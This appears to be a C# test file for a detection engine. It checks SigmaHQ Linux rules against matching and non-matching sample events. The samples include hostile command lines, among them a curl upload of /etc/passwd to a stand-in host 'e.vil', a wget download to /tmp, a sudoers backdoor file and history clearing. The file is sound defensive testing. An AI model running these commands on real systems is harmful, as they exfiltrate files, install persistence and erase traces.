using Bulwark.Scanners.Detection.Events;
using Bulwark.Scanners.Detection.Sigma.Compiling;
using Bulwark.Scanners.Detection.Sigma.Loading;
using static Bulwark.Scanners.Detection.Tests.Sigma.SigmaTestKit;

namespace Bulwark.Scanners.Detection.Tests.Sigma;

/// <summary>
/// SigmaHQ Linux rules of different shapes (process creation, file events, network connections, auditd records,
/// keyword rules on plain log lines), each against one event written to match it and one written not to.
/// </summary>
public sealed class LinuxRuleExampleTests
{
    private static CompiledRule Rule(string relative)
    {
        var set = SigmaLoader.Load([SharedSigma.Rule(relative)]);
        Assert.Empty(set.Problems);
        var compiled = SigmaCompiler.Compile(Assert.Single(set.Rules));
        Assert.True(compiled.Succeeded, string.Join("\n", compiled.Problems));
        return compiled.Value!;
    }

    private static void Decides(string relative, LogEvent matching, LogEvent other)
    {
        var rule = Rule(relative);
        Assert.True(rule.Matches(matching), $"{rule} should match {matching.Raw}");
        Assert.False(rule.Matches(other), $"{rule} should not match {other.Raw}");
    }

    [SharedSigmaFact]
    public void Base64_decoding_on_the_command_line_is_seen_and_plain_base64_is_not() => Decides(
        "process_creation/proc_creation_lnx_base64_decode.yml",
        Event(("Image", "/usr/bin/base64"), ("CommandLine", "base64 -d /tmp/payload")),
        Event(("Image", "/usr/bin/base64"), ("CommandLine", "base64 /tmp/payload")));

    [SharedSigmaFact]
    public void Listing_the_root_inode_needs_both_regular_expressions() => Decides(
        "process_creation/proc_creation_lnx_susp_inod_listing.yml",
        Event(("Image", "/bin/ls"), ("CommandLine", "ls -id /")),
        Event(("Image", "/bin/ls"), ("CommandLine", "ls -i /")));

    [SharedSigmaFact]
    public void Wget_output_to_tmp_is_seen_with_the_case_sensitive_o_flag_only() => Decides(
        "process_creation/proc_creation_lnx_wget_download_suspicious_directory.yml",
        Event(("Image", "/usr/bin/wget"), ("CommandLine", "wget http://e.vil/x -O /tmp/x")),
        Event(("Image", "/usr/bin/wget"), ("CommandLine", "wget http://e.vil/x -o /tmp/wget.log")));

    [SharedSigmaFact]
    public void Curl_uploading_a_file_is_seen_unless_it_goes_to_localhost() => Decides(
        "process_creation/proc_creation_lnx_susp_curl_fileupload.yml",
        Event(("Image", "/usr/bin/curl"), ("CommandLine", "curl --data @/etc/passwd http://e.vil/up")),
        Event(("Image", "/usr/bin/curl"), ("CommandLine", "curl --data @/etc/passwd http://localhost/up")));

    [SharedSigmaFact]
    public void A_callback_port_to_a_public_address_is_seen_and_to_a_private_network_is_not() => Decides(
        "network_connection/net_connection_lnx_susp_malware_callback_port.yml",
        Event(("Initiated", "true"), ("DestinationPort", "4444"), ("DestinationIp", "203.0.113.5")),
        Event(("Initiated", "true"), ("DestinationPort", "4444"), ("DestinationIp", "10.1.2.3")));

    [SharedSigmaFact]
    public void A_new_sudoers_drop_in_is_seen_unless_dpkg_writes_its_readme() => Decides(
        "file_event/file_event_lnx_persistence_sudoers_files.yml",
        Event(("Image", "/usr/bin/vi"), ("TargetFilename", "/etc/sudoers.d/backdoor")),
        Event(("Image", "/usr/bin/dpkg"), ("TargetFilename", "/etc/sudoers.d/README.dpkg-new")));

    [SharedSigmaFact]
    public void A_cron_file_is_seen_unless_it_is_a_known_package_file() => Decides(
        "file_event/file_event_lnx_susp_cron_file_created.yml",
        Event(("TargetFilename", "/etc/cron.d/persist")),
        Event(("TargetFilename", "/etc/cron.daily/apt")));

    [SharedSigmaFact]
    public void Dd_padding_a_binary_is_seen_in_an_execve_record_unless_it_writes_with_of() => Decides(
        "auditd/execve/lnx_auditd_binary_padding.yml",
        EventWithRaw("type=EXECVE msg=audit(1700000000.123:42): argc=3 a0=\"dd\" a1=\"if=/dev/zero\" a2=\"bs=1\"", ("type", "EXECVE")),
        EventWithRaw("type=EXECVE msg=audit(1700000000.123:42): argc=3 a0=\"dd\" a1=\"if=/dev/zero\" a2=\"of=/tmp/x\"", ("type", "EXECVE")));

    [SharedSigmaFact]
    public void Touching_a_hidden_file_is_seen_and_a_visible_one_is_not() => Decides(
        "auditd/execve/lnx_auditd_hidden_files_directories.yml",
        Event(("type", "EXECVE"), ("a0", "touch"), ("a1", "/tmp/.hidden")),
        Event(("type", "EXECVE"), ("a0", "touch"), ("a1", "/tmp/visible")));

    [SharedSigmaFact]
    public void A_program_running_from_a_web_root_is_seen_and_from_usr_bin_is_not() => Decides(
        "auditd/syscall/lnx_auditd_susp_exe_folders.yml",
        Event(("type", "SYSCALL"), ("exe", "/home/bob/public_html/shell")),
        Event(("type", "SYSCALL"), ("exe", "/usr/bin/bash")));

    [SharedSigmaFact]
    public void Clearing_the_kernel_ring_buffer_is_seen_by_its_syslog_action_number() => Decides(
        "auditd/syscall/lnx_auditd_clean_disable_dmesg_logs_via_syslog.yml",
        Event(("type", "SYSCALL"), ("SYSCALL", "syslog"), ("a0", "5")),
        Event(("type", "SYSCALL"), ("SYSCALL", "syslog"), ("a0", "3")));

    [SharedSigmaFact]
    public void A_path_record_for_ld_so_preload_is_seen() => Decides(
        "auditd/path/lnx_auditd_ld_so_preload_mod.yml",
        Event(("type", "PATH"), ("name", "/etc/ld.so.preload")),
        Event(("type", "PATH"), ("name", "/etc/ld.so.conf")));

    [SharedSigmaFact]
    public void A_clamav_trojan_finding_is_seen_in_a_plain_log_line() => Decides(
        "builtin/clamav/lnx_clamav_relevant_message.yml",
        Line("Mar  5 10:00:01 host clamd[812]: /srv/upload/x.elf: Unix.Trojan.Mirai-9 FOUND"),
        Line("Mar  5 10:00:01 host clamd[812]: /srv/upload/x.elf: OK"));

    [SharedSigmaFact]
    public void Clearing_shell_history_is_seen_in_a_plain_log_line() => Decides(
        "builtin/lnx_shell_clear_cmd_history.yml",
        Line("bob: rm ~/.bash_history"),
        Line("bob: cat ~/.bash_history"));

    [SharedSigmaFact]
    public void A_corrupted_mac_from_sshd_is_seen_and_a_normal_login_is_not() => Decides(
        "builtin/sshd/lnx_sshd_susp_ssh.yml",
        Line("Mar  5 10:00:01 host sshd[90]: Corrupted MAC on input. [preauth]"),
        Line("Mar  5 10:00:01 host sshd[90]: Accepted publickey for bob from 10.0.0.2 port 5022 ssh2"));
}
